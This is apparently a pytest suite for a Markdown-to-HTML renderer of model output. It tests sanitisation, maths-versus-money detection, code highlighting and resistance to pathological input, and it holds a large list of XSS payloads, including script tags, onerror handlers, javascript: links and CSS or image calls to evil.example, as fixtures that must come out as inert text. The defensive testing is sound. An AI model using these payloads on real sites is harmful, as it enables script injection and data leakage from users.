"""A model's Markdown becomes HTML that is safe, and mathematics that is whole."""

from __future__ import annotations

import html
import random
import re
import time

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from alcf_magics.markdown.highlighting import LANGUAGES, MAX_HIGHLIGHTED, highlighted, style_sheet
from alcf_magics.markdown.masking import mask
from alcf_magics.markdown.parsing import to_html
from alcf_magics.markdown.tex import MAX_MATHEMATICS
from support.pages import mathematics, safe

ATTACKS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "text <img src=x onerror=alert(1)> text",
    "<img src=x:alert(alt) onerror=eval(src) alt=0>",
    '<img """><script>alert("x")</script>">',
    "<iframe srcdoc='<script>parent.alert(1)</script>'></iframe>",
    "<iframe src=javascript:alert(1)>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<body onload=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<video><source onerror=alert(1)></video>",
    "<input autofocus onfocus=alert(1)>",
    "<form action=javascript:alert(1)><button>x</button></form>",
    "<object data=javascript:alert(1)></object>",
    "<embed src=data:text/html;base64,PHNjcmlwdD4=>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
    "<base href=javascript:/a/-alert(1)///////>",
    "<div style=width:expression(alert(1))>",
    "<div style='background:url(//evil.example)'>",
    "<style>@import '//evil.example/x.css';</style>",
    "<style>*{background:url(//evil.example)}</style>",
    "<!-- <img src=x onerror=alert(1)> -->",
    "<!--><script>alert(1)</script>-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?xml version='1.0'?><script>alert(1)</script>",
    "<!DOCTYPE x [<!ENTITY y 'z'>]>",
    "</p></div></body><script>alert(1)</script>",
    "<a href=javascript:alert(1)>x</a>",
    "<a href='http://a.b' onclick=alert(1)>x</a>",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](java&#115;cript:alert(1))",
    "[x](javascript&colon;alert(1))",
    "[x](&#x6A;avascript:alert(1))",
    "[x](java&Tab;script:alert(1))",
    "[x](java\tscript:alert(1))",
    "[x](<java\tscript:alert(1)>)",
    "[x](\x01javascript:alert(1))",
    "[x](<\u00a0javascript:alert(1)>)",
    "[x](vbscript:msgbox(1))",
    "[x](file:///etc/passwd)",
    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[x](data:image/svg+xml,<svg/onload=alert(1)>)",
    "[x](//evil.example)",
    "[x](/relative)",
    "[x](#fragment)",
    "[x](ftp://evil.example)",
    "[x](https:javascript:alert(1))",
    '[x](http://a.b/"onclick=alert(1))',
    "[x](<http://a.b/'onclick=\"alert(1)>)",
    "[x](http://a.b \"t' onclick='alert(1)\")",
    "[x](http://a.b 't\" onclick=\"alert(1)')",
    "[x](http://a.b (<script>alert(1)</script>))",
    "[<img src=x onerror=alert(1)>](http://a.b)",
    "[x][1]\n\n[1]: javascript:alert(1)",
    "[x]\n\n[x]: data:text/html,x 't\"onclick=\"alert(1)'",
    "<javascript:alert(1)>",
    "<data:text/html,x>",
    '<http://a.b/"onclick="alert(1)>',
    "<http://a.b/<script>alert(1)</script>>",
    "![x](http://evil.example/pixel.png?secret)",
    "![x](javascript:alert(1))",
    "![x](data:image/png;base64,AAAA)",
    '!["onerror="alert(1)](x)',
    '![<script>alert(1)</script>](x "t")',
    "![[![x](a)](b)](c)",
    "[![x](http://evil.example/p.png)](javascript:alert(1))",
    "![x][i]\n\n[i]: http://evil.example/p.png '\"onload=\"x'",
    "$</script><script>alert(1)</script>$",
    '$"><img src=x onerror=alert(1)>$',
    "$$<img src=x onerror=alert(1)>$$",
    "\\[</span><svg onload=alert(1)>\\]",
    "\\(<iframe srcdoc=x>\\)",
    "\\begin{align}<script>alert(1)</script>\\end{align}",
    '[x](http://a.b/$"onclick=alert(1)$)',
    "[x](http://a.b '$\" onclick=\"alert(1)$')",
    "[x]($javascript:alert(1)$)",
    "[x](java$x$script:alert(1))",
    "<http$:$//a.b>",
    '```"><script>alert(1)</script>\nx\n```',
    '```python" onload="alert(1)\nx\n```',
    "```<img/src=x/onerror=alert(1)>\nx\n```",
    '~~~$"<script>$\n</code></pre><script>alert(1)</script>\n~~~',
    "```html\n<script>alert(1)</script>\n```",
    "```python\n</span></pre><img src=x onerror=alert(1)>\n```",
    "    <script>alert(1)</script>",
    "`<script>alert(1)</script>`",
    "`` `<img onerror=x>` ``",
    "| <script> | b |\n|---|---|\n| <img src=x onerror=alert(1)> | $<svg onload=x>$ |",
    '| a |\n|:-:" onclick=x|\n| b |',
    '[^"><script>]\n\n[^"><script>]: <script>alert(1)</script>',
    "x^[<img src=x onerror=alert(1)>]",
    "[^1]\n\n[^1]: [x](javascript:alert(1))",
    "- [x] <img src=x onerror=alert(1)>",
    "- [ ] [x](javascript:alert(1))",
    "# <svg onload=alert(1)>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "\\<script\\>alert(1)\\</script\\>",
    "alcfm0x0z $x$ alcfm1x0z <b>",
    "\x00<script>\x00alert(1)</script>",
    "<img src=x\x0conerror=alert(1)>",
    "\ud800<script>alert(1)</script>\udfff",
    "＜script＞alert(1)＜/script＞",
]


@pytest.mark.parametrize("attack", ATTACKS)
def test_attacks_become_text(attack: str) -> None:
    """No attack makes a tag, an attribute or an address that is not on the list."""
    for text in [attack, f"> {attack}", f"- {attack}", f"**{attack}**", f"$x$ {attack} $y$"]:
        rendered = safe(text)
        assert "<script" not in rendered
        assert "<img" not in rendered


PIECES = st.sampled_from(
    [
        *ATTACKS,
        *"<>\"'`*_[]()!$\\|&;:#~^=-+\n\t /.a1é",
        "\n\n",
        "```",
        "$$",
        "\\[",
        "\\]",
        "\\(",
        "\\)",
        "](",
        "javascript:",
        "http://",
        "data:",
        "\\begin{align}",
        "\\end{align}",
        "&#",
        "&quot;",
        "[^",
        "]: ",
        "- [x] ",
        "> ",
        "|--|",
        "    ",
        "alcfm0x0z",
        "שלום",
        "🙂",
        "\ud83d",
        "\r",
        "\0",
        "on",
        "error=",
        "<img ",
        "style=",
    ]
)


@settings(deadline=None, max_examples=400, suppress_health_check=[HealthCheck.too_slow])
@given(st.lists(PIECES, max_size=20).map("".join) | st.text(max_size=80))
def test_no_text_is_unsafe(text: str) -> None:
    """Whatever the text, only what is on the list occurs, and text is no mathematics."""
    safe(text)


@pytest.mark.parametrize(
    ("text", "pieces"),
    [
        ("$5 and $10", []),
        ("It costs $5, or 10$ there", []),
        ("from $10-$15", []),
        ("$ x $ and a $", []),
        ("\\$x\\$ and \\\\(a\\\\)", []),
        ("$a\n\nb$", []),
        ("a \\( b", []),
        ("a \\[ b", []),
        ("a $$ b", []),
        ("\\begin{align} b", []),
        ("\\begin{itemize}x\\end{itemize}", []),
        ("$", []),
        ("$$$$", []),
        ("$\\href{javascript:alert(1)}{x}$", []),
        ("$\\bbox[background:url(//evil.example)]{x}$", []),
        ("$x_1$ and $y_1$", ["$x_1$", "$y_1$"]),
        ("$5x$ and $2 + 3 = 5$", ["$5x$", "$2 + 3 = 5$"]),
        ("the $n$th, \\(a_b*c*\\)", ["$n$", "\\(a_b*c*\\)"]),
        ("in the middle \\[a\\] of a line", ["\\[a\\]"]),
        ("see: \\[ x \\]", ["\\[ x \\]"]),
        ("\\[\na\n\n    b\n\\]", ["\\[\na\n\n    b\n\\]"]),
        ("$$\na\n\n- b\n$$", ["$$\na\n\n- b\n$$"]),
        ("a $$x$$ b", ["$$x$$"]),
        ("$a<b \\$ c$", ["$a<b \\$ c$"]),
        ("*$a*b$*", ["$a*b$"]),
        ("[$x$](http://a.b)", ["$x$"]),
        ("![$x$](y)", ["$x$"]),
        ("# $\\sum_{i}^{n}$", ["$\\sum_{i}^{n}$"]),
        ("> \\[\n> a\n> \\]", ["\\[\na\n\\]"]),
        ("| a |\n|---|\n| $|x|$ \\(P(a|b)\\) |", ["$|x|$", "\\(P(a|b)\\)"]),
        (
            "\\begin{align}\na &= b_1 \\\\\n\n\\begin{cases}1\\end{cases}\n\\end{align}",
            ["\\begin{align}\na &= b_1 \\\\\n\n\\begin{cases}1\\end{cases}\n\\end{align}"],
        ),
        (
            "\\[ \\begin{matrix} a \\\\[2pt] b \\end{matrix} \\]",
            ["\\[ \\begin{matrix} a \\\\[2pt] b \\end{matrix} \\]"],
        ),
        ("`$x$` ``a`$y$`` $z$", ["$z$"]),
        ("```\n$x$\n\\[y\\]\n```\n$z$", ["$z$"]),
        ("- ~~~\n  $x$\n  ~~~\n- $z$", ["$z$"]),
        ("    $x$\n\n$z$", ["$z$"]),
        ("\\[ a\n```\n\\]\n```", []),
        ("use $HOME or `$PATH`", []),
        ("- costs $a\n- price b$", []),
        ("\\[" + "x" * MAX_MATHEMATICS + "\\]", []),
    ],
)
def test_what_is_mathematics(text: str, pieces: list[str]) -> None:
    """Mathematics comes through untouched, delimiters included; money and code are none."""
    assert mathematics(text) == pieces
    safe(text)


@pytest.mark.parametrize(
    "text",
    [
        "| Item | Cost ($) | Price ($) |\n|---|---|---|\n| a | 5 | 6 |",
        "| a | b |\n|---|---|\n| $5.00 | 3$ |",
        "|a|b|\n|-|-|\n|$5|3$|",
        "| a | b |\n|---|---|\n| $HOME | a$ |",
        "Cost ($) and price ($)",
        "**Total ($):** 5, **Tax ($):** 6",
        "**$5** and **6$**",
        "10$, 20$ or 30$",
        "10k$–20k$ or 10$-20$",
        "10$! or 20$!",
        "$1.5M (up from $1.2M)",
        "($5)–($10), $5/$10, US$5 and C$6",
        "$5 ($)",
        "'$' and '$', sed 's/$/x/' and 's/^$/y/'",
        "$$5 and $$10",
        "$HOME/bin:$PATH",
        "$HOME$PATH, $A/$B, $a.$b, $A:$(pwd)",
        "5 $ or 6 $, that is $ x $",
        "write $$...$$ around it",
    ],
)
def test_money_and_variables_are_no_mathematics(text: str) -> None:
    """Dollars of prices, headings of columns and shell variables stay dollars, cells stay cells."""
    rendered = safe(text)
    shown = html.unescape(re.sub(r"<[^>]*>|\s", "", rendered))
    assert mathematics(text) == []
    assert rendered.count("</td>") == (text.splitlines()[-1].count("|") - 1) * ("\n|" in text)
    assert shown.count("$") == text.count("$")


@pytest.mark.parametrize(
    ("text", "count"),
    [
        ("$n$-th, the $n$th and $k$NN", 3),
        ("($x$), **$x$**, $x$, $y$; $z$.", 5),
        (r"$O(n \log n)$, $f(x)=|x|$, $(a, b)$", 3),
        (r"$p=0.05$, $10^6$, $5$, $-5$, $5\,\mathrm{kg}$", 5),
        ("$[0, 1)$, $]0, 1[$ and $X^{**}$", 3),
        ("| a | b |\n|---|---|\n| $|x| \\le 1$ | $P(A | B)$ |", 2),
        ("| a | b |\n|---|---|\n| $\\{x | y\\}$ | $a$ |", 2),
        ("$a | b$ divides", 1),
        ("CO$_2$, a$b$c, 5$x$, 函数$f(x)$的", 4),
        ("$$5 + 3 = 8$$ and $$x**2$$", 2),
        ("$$\nE=mc^2.\n$$where $$a,$$(1)", 2),
        (r"$\mathbb{R}^+$(positive), $x^*$s, $f$(x), $n!$ ($k$)", 5),
        ("$H_0:$ equal", 1),
        (r"about $\sim$5 GB, 2$\times$2, $\geq$10", 3),
        (r"let $ \alpha $ and $ E = mc^2 $ be", 2),
        (r"it is 5 $ and $ \beta $ is 6", 1),
    ],
)
def test_ordinary_mathematics_stays(text: str, count: int) -> None:
    """What keeps money out keeps no usual formula out."""
    assert len(mathematics(text)) == count
    safe(text)


def test_a_refused_formula_ends_where_it_ends() -> None:
    """Its end does not begin another one, and nothing in it is read as Markdown."""
    assert mathematics(r"$$\href{a}{b}$$ text $$x$$") == ["$$x$$"]
    assert mathematics(r"$\unicode{65}$, ($\href{x}{y}$), ($x$)") == ["$x$"]
    rendered = safe(r"$\href{a}{*b* \*c\*}$ *d*")
    assert html.unescape(re.sub("</?(?:span|p)>", "", rendered)) == (
        "$\\href{a}{*b* \\*c\\*}$ <em>d</em>\n"
    )


def test_formulas_side_by_side_and_guarded_ones() -> None:
    """Nothing has to stand between formulas; backticks around one are not typeset."""
    assert mathematics("$x$$y$$z$ and $$d$$") == ["$x$", "$y$", "$z$", "$$d$$"]
    assert mathematics("$a $$b$$ c$") == ["$$b$$"]
    assert mathematics("$x$$ y") == []
    assert mathematics("$`x_1 + *y*`$ and `$`x`$`") == ["$x_1 + *y*$"]


def test_code_ends_no_formula() -> None:
    """A delimiter in a code span is code, also for a formula that is open."""
    assert mathematics(r"use \[ x `\]` y") == []
    assert mathematics(r"use \( x `\)` y") == []
    assert mathematics("use $$ x `$$` y") == []
    assert mathematics("\\begin{align} x `\\end{align}` y") == []


def test_mathematics_in_a_table_keeps_the_cells() -> None:
    """A bar inside mathematics does not split a cell."""
    rendered = to_html("| a | b |\n|---|---|\n| $|x|$ | c |")
    assert rendered.count("<td ") == 2
    assert ">c</td>" in rendered


def test_mathematics_in_code_is_code() -> None:
    """Dollars in code stand in it as they were typed, without elements in between."""
    assert "<code>$x_1$ \\(y\\)</code>" in to_html("`$x_1$ \\(y\\)`")
    assert "echo $A $B\n</code>" in to_html("~~~\necho $A $B\n~~~")
    assert "<code>$x$</code>" in to_html("$y$ `$x$`")


def test_words_like_the_placeholder_stay() -> None:
    """A text that holds the word that stands for mathematics keeps it."""
    rendered = to_html("alcfm0x0z $x$ alcfm1x0z")
    assert rendered == "<p>alcfm0x0z <span>$x$</span> alcfm1x0z</p>\n"


@pytest.mark.parametrize(
    "spelled", ["alcfm&#48;x9z", "alcfm&#48;x0z", "<http://a/alcfm%30x9z>", "<http://a/alcfm0x0z>"]
)
def test_the_placeholder_cannot_be_spelled(spelled: str) -> None:
    """Entities and escapes, which are read after the mathematics is found, name no formula."""
    assert to_html(f"{spelled} $x$").replace("<span>$x$</span>", "$x$") == (
        to_html(f"{spelled} y").replace(" y<", " $x$<")
    )


def test_an_unknown_placeholder_stays() -> None:
    """A word that stands for no piece is shown, and raises nothing."""
    masked = mask("$x$")
    assert masked.restored(f"{masked.key}0z {masked.key}1z", str) == f"$x$ {masked.key}1z"


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        ("a**$x$**b", "a<strong><span>$x$</span></strong>b"),
        ("[$x$](http://a.b/$y$ '$z$')", 'href="http://a.b/$y$" title="$z$"'),
        ("[a](http://$x$.é)", "$x$"),
        ("# $x$ #", "<h1><span>$x$</span></h1>"),
        ("&#$48$;", "&amp;#<span>$48$</span>;"),
    ],
)
def test_the_placeholder_comes_through(text: str, expected: str) -> None:
    """No rule of Markdown changes the word that stands for mathematics meanwhile."""
    rendered = to_html(text)
    assert expected in rendered
    assert "alcfm" not in rendered


def test_links() -> None:
    """A link opens in a new tab that knows nothing of this one; others stay as they were typed."""
    assert to_html("[*a*](https://a.b 'c')") == (
        '<p><a href="https://a.b" title="c" target="_blank" rel="noopener noreferrer">'
        "<em>a</em></a></p>\n"
    )
    assert 'href="mailto:a@b.c"' in to_html("<a@b.c>")
    assert to_html("[a](b.md) and x[i](j)") == "<p>[a](b.md) and x[i](j)</p>\n"
    assert to_html("std<std::vector>") == "<p>std&lt;std::vector&gt;</p>\n"


def test_images_are_text() -> None:
    """An image is its alternative text and its address, a long one shortened."""
    assert to_html("![a *b*](http://a.b/c.png)") == "<p>[image: a b (http://a.b/c.png)]</p>\n"
    assert "[image: a (data:image/png;base64,AAAA)]" in to_html("![a](data:image/png;base64,AAAA)")
    assert len(to_html("![a](data:image/png;base64," + "A" * 9999 + ")")) < 300


def test_tables_lists_and_strikethrough() -> None:
    """Tables with alignment, struck text and task lists are rendered."""
    rendered = safe("| a | b |\n|:--|--:|\n| ~~c~~ | d |\n\n- [x] done\n- [ ] *open*\n")
    assert "<s>c</s>" in rendered
    assert 'style="text-align:right">d' in rendered
    assert '<input type="checkbox" disabled checked> done' in rendered
    assert '<input type="checkbox" disabled> <em>open</em>' in rendered


def test_footnotes_of_two_texts_do_not_meet() -> None:
    """The marks of a footnote are the same each time, and other ones in another text."""
    one, other = "a[^1]\n\n[^1]: b", "a[^1]\n\n[^1]: c"
    ids = [set(re.findall(r'id="([^"]+)"', safe(text))) for text in (one, other, one)]
    assert ids[0] == ids[2]
    assert len(ids[0]) == 2
    assert not ids[0] & ids[1]


def test_a_footnote_that_nothing_refers_to_is_shown() -> None:
    """A definition without a reference, or one of two, is text where it stands."""
    assert safe("a\n\n[^1]: orphan *b*\n\nc") == (
        "<p>a</p>\n<p>[^1]: orphan <em>b</em></p>\n<p>c</p>\n"
    )
    assert "<p>[^x]: </p>\n<ul>" in safe("[^x]:\n    - item\n    - other")
    twice = safe("a[^1]\n\n[^1]: one\n\n[^1]: two")
    assert "<p>[^1]: one</p>" in twice
    assert twice.index("<section") < twice.index("two")
    assert "deep" in safe("[^1]: [^2]: deep")
    assert "<blockquote>\n<p>[^1]: in it</p>\n</blockquote>" in safe("> [^1]: in it\n\n[^2]: b")


def test_many_intervals_leave_markdown_alone() -> None:
    """Half-open intervals, and brackets in code, are not so many that nothing is parsed."""
    for text in ["[0, 1) " * 60, "`[` " * 2000, r"\[ " * 2000]:
        assert "<em>b</em>" in to_html(f"{text} *b*")


def test_code_is_named_and_coloured() -> None:
    """Code names its language, has colours of the theme, and the style sheet comes once."""
    text = "```python\ndef f(): return '<b>'\n```\n"
    rendered = safe(text * 2)
    assert rendered.startswith(style_sheet())
    assert rendered.count("<style>") == 1
    assert ">python</div>" in rendered
    assert 'class="alcf-k">def' in rendered
    assert "var(--jp-mirror-editor-keyword-color" in rendered
    assert "<style>" not in to_html("```\nx\n```\n") + to_html("a")
    assert "<style>" not in to_html(text, highlight=False)


@pytest.mark.parametrize("language", ["", "python", "nonsense", "c", "bash", "json", "pycon"])
@pytest.mark.parametrize("code", ["\n\n  def x(\n", "$ a\t\u2028\x0b'\"", "{\n\n}", " ", "<&>\x0c"])
def test_code_is_kept(language: str, code: str) -> None:
    """The text of a block of code is what was typed, highlighted or not."""
    rendered = safe(f"```{language}\n{code}\n```")
    shown = re.search(r"<code[^>]*>(.*)</code>", rendered, re.S)
    assert shown
    assert html.unescape(re.sub("<[^>]*>", "", shown[1])) == f"{code}\n"


def test_long_code_is_not_coloured() -> None:
    """Very long code, and code with very long lines, is shown without colours."""
    line = "x = 1\n"
    for code in [line * (MAX_HIGHLIGHTED // len(line) + 1), "x = 1;" * 100]:
        assert "<span" not in to_html(f"```python\n{code}\n```")


def test_code_that_lexers_hang_on_is_not_coloured() -> None:
    """Many openings that are never closed would each cost a look at the rest of the code."""
    for language, code in [
        ("c", "/*\n" * 9999),
        ("html", "<!--\n" * 9000),
        ("cpp", 'R"(\n' * 9000),
    ]:
        assert "<span" not in to_html(f"```{language}\n{code}\n```")
    assert "<span" in to_html("```c\n" + "/* a */ int x;\n" * 100 + "```")


HOSTILE = [
    *("\n", " \n", "\t", "\t\n", " ", "'", '"', "`", "(", "[", "{", "<", "m{", "\\", "1", "a"),
    *("/*", "<!--", "#", '"""', "--[[", "[[", 'r#"', "<?", "<script>", "<<A\n", "=", "-", "$("),
]


def seconds(code: str, language: str) -> float:
    begun = time.process_time()
    highlighted(code, language)
    return time.process_time() - begun


def in_lines(unit: str, length: int) -> str:
    """The unit again and again, in lines of a usual length."""
    per_line = 200 // len(unit) if "\n" not in unit else length
    text = unit * (length // len(unit) + 1)
    step = per_line * len(unit)
    return "\n".join(text[start : start + step] for start in range(0, length, step))[:length]


@pytest.mark.parametrize("language", sorted(LANGUAGES))
def test_the_time_of_colours_grows_with_the_code(language: str) -> None:
    """No language takes long over what a model repeats that is stuck, nor over a mix of it."""
    shuffle = random.Random(0).choice
    mix = "".join(shuffle(HOSTILE) + shuffle("ab1 \n") for _ in range(10_000))
    loops = [in_lines(form, 20_000) for unit in HOSTILE for form in (unit, f"{unit}\n")]
    for code in [*loops, mix[:20_000]]:
        taken = seconds(code, language)
        assert taken < 0.5 or taken < 8 * seconds(code[:5_000], language), code[:9]
    for code in loops[1::2]:
        assert seconds(code[:3_900], language) < 0.5, code[:9]


@pytest.mark.parametrize("blank", ["\n", " \n", " ", "\t", "\r\n"])
def test_code_that_is_blank_for_long_is_not_coloured(blank: str) -> None:
    """A model that is stuck in white space costs nothing: some lexers took its cube."""
    assert "<span" not in to_html("```c\nint x;\n" + blank * 10_000 + "int y;\n```")
    assert "<span" in to_html("```c\nint x;\n" + blank * 20 + "int y;\n```")


def test_code_that_repeats_itself_is_not_coloured() -> None:
    """The same line hundreds of times has no colours; a usual program has."""
    assert "<span" not in to_html("```c\n" + "int x = f(1);\n" * 1000 + "```")
    program = "".join(f"double value_{n} = f({n * n});\n" for n in range(600))
    assert "<span" in to_html(f"```c\n{program}```")


def test_right_to_left() -> None:
    """A block with right-to-left letters takes its direction from its first letter."""
    assert to_html("שלום") == '<p dir="auto">שלום</p>\n'
    assert '<li dir="auto">مرحبا</li>' in to_html("- مرحبا")
    assert "dir" not in to_html("漢字 🙂")
    rendered = safe("| a | שלום |\n|---|--:|\n| مرحبا | b |")
    assert '<th dir="auto" style="text-align:right">שלום' in rendered
    assert '<td dir="auto" style="text-align:start">مرحبا' in rendered
    assert '<td style="text-align:right">b' in rendered


def test_line_ends_and_lone_surrogates() -> None:
    """Line ends of any kind are one kind; what no file can hold becomes U+FFFD."""
    assert to_html("a\r\n\r\nb\rc") == "<p>a</p>\n<p>b\nc</p>\n"
    assert to_html("\ud83d\ude42 \ud83d") == "<p>🙂 \ufffd</p>\n"
    assert to_html("") == ""


def test_too_deep_is_shown_as_typed() -> None:
    """What is nested deeper than the parser goes is not lost."""
    text = ">" * 100 + " deep **text**"
    assert html.escape(text) in safe(f"a\n\n{text}\n\n*b*")
    assert "<em>b</em>" in to_html(f"a\n\n{text}\n\n*b*")
    assert "deep" in safe("\n".join("  " * n + "- deep" for n in range(100)))


@pytest.mark.parametrize(
    "piece",
    [
        "$",
        "$a",
        "$$",
        "\\[",
        "\\(a",
        "\\begin{align}",
        "`",
        "`a``b",
        "[",
        "![",
        "*",
        "*a ",
        ">",
        "> ",
        "- ",
        "|",
        "<",
        "&",
        "\\",
        "[^",
        "_a",
        "~~",
        "(",
        "#",
        " ",
        "\n",
        "$1 ab",
    ],
)
def test_long_hostile_text_ends(piece: str) -> None:
    """200,000 characters of one kind are rendered, without an error."""
    rendered = to_html((piece * 200_000)[:200_000])
    assert isinstance(rendered, str)


@pytest.mark.parametrize(
    "tex",
    [
        r"\def\u#1{\unicode#1{65}} \u{[x;background:url(http://evil.example)]}",
        r"\let\w=\unicode \w[x;background:url(http://evil.example)]{65}",
        r"\newcommand\n[1]{\unicode[#1]{65}} \n{x}",
        r"\bbox[background:url(http://evil.example)]{x}",
        r"\href{javascript:alert(1)}{x}",
        r"\require{html} x",
    ],
)
def test_tex_that_reaches_out_of_its_formula_is_text(tex: str) -> None:
    """Every dollar and backslash of it stands in an element of its own: no typesetter sees it."""
    rendered = safe(f"before ${tex}$ after")
    text = re.sub(r"<span>[$\\]</span>", "", rendered)
    assert "$" not in text
    assert "\\" not in text
    assert r"$\left(x\right)$" in safe(r"$\left(x\right)$")
